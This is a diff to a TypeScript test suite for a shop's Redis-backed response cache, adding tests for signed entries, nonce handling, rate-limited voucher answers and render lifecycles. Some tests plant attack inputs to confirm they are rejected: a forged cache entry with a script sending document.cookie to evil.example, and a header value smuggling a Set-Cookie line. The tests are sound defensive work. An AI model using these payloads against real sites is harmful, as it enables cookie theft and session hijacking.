@@ -4,7 +4,7 @@
 // holders: response-cache-sessions.test.ts, decision 0043); mutations are never cached; two
 // instances on one database share answers and invalidations through Redis; stale-while-revalidate.
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
-import { createHash, randomUUID } from 'node:crypto';
+import { createHash, randomInt, randomUUID } from 'node:crypto';
 import { createServer } from 'node:http';
 import { gzipSync } from 'node:zlib';
 import { connect, createServer as createNetServer, type AddressInfo, type Socket } from 'node:net';
@@ -21,6 +21,7 @@ import { deliverWebhooks } from '../../bff/src/jobs/webhook-deliveries.ts';
 import { operationHashes } from '../../web/app/gql/operation-hashes.ts';
 import { currencyOfCookies } from '../../schema/rules/cookies.ts';
 import { requestCurrency } from '../../bff/src/graphql/server/yoga.ts';
+import { RATE_RULES } from '../../bff/src/rate-limit/rate-limit.ts';
 
 const REDIS_URL = process.env.TEST_REDIS_URL ?? 'redis://127.0.0.1:6379';
 
@@ -519,14 +520,67 @@ describe('two instances on one database, through Redis', () => {
     await sharedInRedis(query);
     const [key, ...others] = (await redis.keys(`${prefix}*`)).filter((name) => name.includes('tampered'));
     expect(others).toEqual([]);
-    const entry = JSON.parse((await redis.get(key))!) as { headers: Record<string, string> };
+    // the signature, a dot, the entry (the signature is tried in the next test)
+    const raw = (await redis.get(key))!;
+    const signature = raw.slice(0, raw.indexOf('.'));
+    const entry = JSON.parse(raw.slice(signature.length + 1)) as { headers: Record<string, string> };
     // a header that would smuggle another header in (Node refuses to send it: the send would throw)
-    await redis.set(key, JSON.stringify({ ...entry, headers: { ...entry.headers, 'content-type': 'application/json\r\nSet-Cookie: sid=x' } }));
+    await redis.set(key, `${signature}.${JSON.stringify({ ...entry, headers: { ...entry.headers, 'content-type': 'application/json\r\nSet-Cookie: sid=x' } })}`);
     const response = await fetch(`${second.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(query) });
     expect([response.status, response.headers.get('x-cache'), response.headers.get('set-cookie')]).toEqual([200, 'MISS', null]);
     expect(await response.json()).toEqual(rendered.json);
     // the second instance rendered and stored its own answer, and serves it in front of the app
     expect((await post(second, query)).cache).toBe('HIT');
+  });
+
+  it('an entry in Redis not signed by the shop for its key is neither served nor kept: the answer is rendered again (issue 40, item 8)', async () => {
+    const forged = { query: PRODUCT, variables: { slug: productSlug, forged: true } };
+    const moved = { query: PRODUCT, variables: { slug: productSlug, moved: true } };
+    const rendered = await post(app, forged);
+    await post(app, moved);
+    await sharedInRedis(forged);
+    await sharedInRedis(moved);
+    const keys = await redis.keys(`${prefix}*`);
+    const [forgedKey, movedKey] = ['"forged"', '"moved"'].map((marker) => keys.find((name) => name.includes(marker))!);
+    // a real entry under another key: the first query's answer for the second
+    await redis.set(movedKey, (await redis.get(forgedKey))!);
+    // whoever can write to Redis writes a page with a script, well-formed as the shop's entries are
+    // (its nonce marked both ways: the placeholder of old and the field of now)
+    const generation = (await redis.get(`${prefix}generation`)) ?? '0';
+    const script = '<script nonce="\u0000nonce\u0000">fetch("https://evil.example/?" + document.cookie)</script>';
+    const page = { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: script, nonce: '\u0000nonce\u0000', storedAt: Date.now(), generation: 0, sharedGeneration: generation, anyVisitor: true };
+    await redis.set(forgedKey, JSON.stringify(page));
+
+    const answer = await fetch(`${second.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(forged) });
+    expect([answer.status, answer.headers.get('x-cache'), answer.headers.get('content-type')]).toEqual([200, 'MISS', 'application/json; charset=utf-8']);
+    expect(await answer.json()).toEqual(rendered.json);
+    expect((await post(second, moved)).cache).toBe('MISS');
+    // each dropped and replaced by the answer rendered again, which the second instance now serves
+    await vi.waitFor(async () => expect(await redis.get(forgedKey)).toMatch(/^[\w-]+\.\{"status":200/), { timeout: 10_000, interval: 20 });
+    expect(await redis.get(forgedKey)).not.toContain('evil.example');
+    expect((await post(second, forged)).cache).toBe('HIT');
+    expect((await post(second, moved)).cache).toBe('HIT');
+  });
+
+  it("an answer that read the client's address (checkVoucher's limit) is stored for no one: each cookie-less client gets its own (issue 40, item 14)", async () => {
+    const check = (code: string) => ({
+      query: 'query CacheCheck($code: String!) { checkVoucher(code: $code) { __typename ... on VoucherError { problem } ... on ValidationError { fieldErrors { field } } } }',
+      variables: { code },
+    });
+    const address = () => `10.${randomInt(256)}.${randomInt(256)}.${randomInt(256)}`;
+    const [limited, fresh, other] = [address(), address(), address()];
+    const code = `NIKDO-${randomUUID()}`;
+    // one address uses up its checks without the captcha, then asks about the code: the captcha is asked for
+    for (let i = 0; i < RATE_RULES.voucherCheckWithoutCaptcha.limit; i += 1) await post(app, check(`${code}-${i}`), { 'x-forwarded-for': limited });
+    const refusal = { checkVoucher: { __typename: 'ValidationError', fieldErrors: [{ field: 'captcha' }] } };
+    const notFound = { checkVoucher: { __typename: 'VoucherError', problem: 'NOT_FOUND' } };
+    expect(await post(app, check(code), { 'x-forwarded-for': limited })).toEqual({ cache: 'MISS', json: { data: refusal } });
+    // another address, on either instance, gets its own answer, and the limited one its refusal again
+    expect(await post(app, check(code), { 'x-forwarded-for': fresh })).toEqual({ cache: 'MISS', json: { data: notFound } });
+    expect(await post(second, check(code), { 'x-forwarded-for': other })).toEqual({ cache: 'MISS', json: { data: notFound } });
+    expect(await post(second, check(code), { 'x-forwarded-for': limited })).toEqual({ cache: 'MISS', json: { data: refusal } });
+    expect(await post(app, check(code), { 'x-forwarded-for': limited })).toEqual({ cache: 'MISS', json: { data: refusal } });
+    expect((await redis.keys(`${prefix}*`)).filter((key) => key.includes(code))).toEqual([]);
   });
 
   it("an instance moves the shared generation when it sees a change, not at its next request: an answer shared after the change stays shared", async () => {
@@ -725,6 +779,207 @@ describe('requests that miss together', () => {
     } finally {
       listening.close();
       await cache.close();
+    }
+  });
+});
+
+describe("a hit's nonce (issue 40, item 8)", () => {
+  it('goes only where the render put its own: a parameter the page shows, whatever it holds, never gets it', async () => {
+    const version: CatalogVersion = { generation: 1, databaseReachable: true, bump: () => undefined, onChange: () => undefined, onStatement: () => undefined, polled: async () => undefined, ready: async () => undefined, close: async () => undefined };
+    const cache = createResponseCache({ version });
+    const server = express();
+    server.use((_req, res, next) => {
+      res.locals.nonce = randomUUID().replaceAll('-', '').slice(0, 24);
+      next();
+    });
+    server.use(cache.middleware);
+    // a search page that shows what was asked (as the shop's search box does)
+    server.get('/hledat', (req, res) => void res.type('html').send(`<script nonce="${res.locals.nonce as string}">run()</script><input value="${String(req.query.q)}">`));
+    const listening = createServer(server).listen(0, '127.0.0.1');
+    await new Promise((resolve) => listening.once('listening', resolve));
+    const url = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/hledat?q=`;
+    const page = /^<script nonce="(\w{24})">run\(\)<\/script><input value="(.*)">$/s;
+    try {
+      // the fixed placeholder of before, and a nonce of the shop's length and alphabet
+      for (const typed of ['\u0000nonce\u0000', 'abcdefabcdefabcdefabcdef']) {
+        const answers = [];
+        for (let i = 0; i < 2; i += 1) {
+          const response = await fetch(url + encodeURIComponent(typed));
+          answers.push({ cache: response.headers.get('x-cache'), parts: page.exec(await response.text())?.slice(1) });
+        }
+        expect(answers.map((answer) => answer.cache)).toEqual(['MISS', 'HIT']);
+        const [[firstNonce, firstTyped], [hitNonce, hitTyped]] = answers.map((answer) => answer.parts!);
+        expect([firstTyped, hitTyped]).toEqual([typed, typed]);
+        expect(hitNonce).not.toBe(firstNonce);
+      }
+    } finally {
+      listening.close();
+      await cache.close();
+    }
+  });
+});
+
+describe('a render in flight ends with its response, whatever happens to it (issue 40, item 4)', () => {
+  const version: CatalogVersion = { generation: 1, databaseReachable: true, bump: () => undefined, onChange: () => undefined, onStatement: () => undefined, polled: async () => undefined, ready: async () => undefined, close: async () => undefined };
+  /** How the test finishes a render: it gets the request's response (a throw is the render failing). */
+  type Finish = (res: express.Response) => void;
+
+  /**
+   * The cache in front of a page whose every render waits for the test to finish it (`renders`, in
+   * order). A render that waited for another render's entry longer than the test's wait would start
+   * only after `renderWaitMs`; each test checks that the next render starts at once.
+   */
+  async function pageServer(renderWaitMs: number) {
+    const cache = createResponseCache({ version, renderWaitMs });
+    const renders: Array<{ finish: (how: Finish) => void; res: express.Response }> = [];
+    const server = express();
+    server.use(cache.middleware);
+    server.get('/page', async (_req, res) => {
+      const how = await new Promise<Finish>((resolve) => renders.push({ finish: resolve, res }));
+      how(res);
+    });
+    // a render that throws reaches the app's error handler, which answers
+    server.use((_error: unknown, _req: express.Request, res: express.Response, _next: express.NextFunction) => void res.status(500).type('text').send('error'));
+    const listening = createServer(server).listen(0, '127.0.0.1');
+    await new Promise((resolve) => listening.once('listening', resolve));
+    let closedConnections = 0;
+    listening.on('connection', (socket: Socket) => socket.once('close', () => (closedConnections += 1)));
+    const url = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/page`;
+    const ask = async (signal?: AbortSignal) => {
+      const response = await fetch(url, { signal });
+      return [response.headers.get('x-cache'), await response.text()];
+    };
+    /** A request whose client goes away before any answer: `giveUp` resolves once the server saw its connection close. */
+    const askAndGiveUp = () => {
+      const controller = new AbortController();
+      const asked = ask(controller.signal).catch(() => 'given up');
+      const giveUp = async () => {
+        const closed = closedConnections;
+        controller.abort();
+        await vi.waitFor(() => expect(closedConnections).toBe(closed + 1), { interval: 10 });
+      };
+      return { giveUp, asked };
+    };
+    /** The next render starts at once and is the one in flight: a request meanwhile is served what it stores. */
+    const nextRenderIsInFlight = async () => {
+      const before = renders.length;
+      const first = ask();
+      await vi.waitFor(() => expect(renders.length).toBe(before + 1), { timeout: 2000, interval: 10 });
+      const second = ask();
+      await sleep(100); // the second request is waiting for the first's render
+      renders[before].finish((res) => void res.type('html').send('<p>rendered</p>'));
+      expect(await Promise.all([first, second])).toEqual([
+        ['MISS', '<p>rendered</p>'],
+        ['HIT', '<p>rendered</p>'],
+      ]);
+      expect(renders.length).toBe(before + 1);
+    };
+    return {
+      renders,
+      ask,
+      askAndGiveUp,
+      nextRenderIsInFlight,
+      close: async () => {
+        listening.closeAllConnections();
+        listening.close();
+        await cache.close();
+      },
+    };
+  }
+
+  // a wait far longer than each test: a render held by a leftover entry would not start in time
+  const LONG_WAIT = 60_000;
+
+  it('a render that answers (finish): the next request renders at once', async () => {
+    const page = await pageServer(LONG_WAIT);
+    try {
+      const asked = page.ask();
+      await vi.waitFor(() => expect(page.renders.length).toBe(1));
+      // Cache-Control private: not stored, so the next request renders again
+      page.renders[0].finish((res) => void res.setHeader('Cache-Control', 'private, no-store').type('html').send('<p>private</p>'));
+      expect(await asked).toEqual(['MISS', '<p>private</p>']);
+      await page.nextRenderIsInFlight();
+    } finally {
+      await page.close();
+    }
+  });
+
+  it('a render whose client goes away meanwhile (close): the next request renders at once', async () => {
+    const page = await pageServer(LONG_WAIT);
+    try {
+      const { giveUp, asked } = page.askAndGiveUp();
+      await vi.waitFor(() => expect(page.renders.length).toBe(1));
+      await giveUp();
+      expect(await asked).toBe('given up');
+      await page.nextRenderIsInFlight();
+      // the abandoned render, finished late, stores nothing over the new one's answer
+      page.renders[0].finish((res) => void res.type('html').send('<p>late</p>'));
+    } finally {
+      await page.close();
+    }
+  });
+
+  it('a render whose response fails (error, destroyed): the next request renders at once', async () => {
+    const page = await pageServer(LONG_WAIT);
+    try {
+      const asked = page.ask().catch(() => 'failed');
+      await vi.waitFor(() => expect(page.renders.length).toBe(1));
+      page.renders[0].finish((res) => void res.destroy(new Error('the socket failed')));
+      expect(await asked).toBe('failed');
+      await page.nextRenderIsInFlight();
+    } finally {
+      await page.close();
+    }
+  });
+
+  it('a render that throws: the app answers 500 and the next request renders at once', async () => {
+    const page = await pageServer(LONG_WAIT);
+    try {
+      const asked = page.ask();
+      await vi.waitFor(() => expect(page.renders.length).toBe(1));
+      page.renders[0].finish(() => {
+        throw new Error('the render failed');
+      });
+      expect(await asked).toEqual(['MISS', 'error']);
+      await page.nextRenderIsInFlight();
+    } finally {
+      await page.close();
+    }
+  });
+
+  it('a request whose client gave up while it waited for another render (abort): its own render does not hold the page', async () => {
+    const page = await pageServer(LONG_WAIT);
+    try {
+      const first = page.ask();
+      await vi.waitFor(() => expect(page.renders.length).toBe(1));
+      // the second waits for the first render, and its client gives up meanwhile
+      const { giveUp, asked } = page.askAndGiveUp();
+      await sleep(100);
+      await giveUp();
+      expect(await asked).toBe('given up');
+      // the first stores nothing: the second renders for nobody; its response closed before its render began
+      page.renders[0].finish((res) => void res.setHeader('Cache-Control', 'private, no-store').type('html').send('<p>private</p>'));
+      expect(await first).toEqual(['MISS', '<p>private</p>']);
+      await vi.waitFor(() => expect(page.renders.length).toBe(2));
+      await page.nextRenderIsInFlight();
+      page.renders[1].finish((res) => void res.type('html').send('<p>late</p>'));
+    } finally {
+      await page.close();
+    }
+  });
+
+  it('a render that never answers holds the page at most the wait; then a new render takes its place', async () => {
+    const page = await pageServer(300);
+    try {
+      const { giveUp, asked } = page.askAndGiveUp();
+      await vi.waitFor(() => expect(page.renders.length).toBe(1));
+      await sleep(400);
+      // older than the wait: the next render does not wait for it, and is the one others wait for
+      await page.nextRenderIsInFlight();
+      await giveUp();
+      await asked;
+    } finally {
+      await page.close();
     }
   });
 });
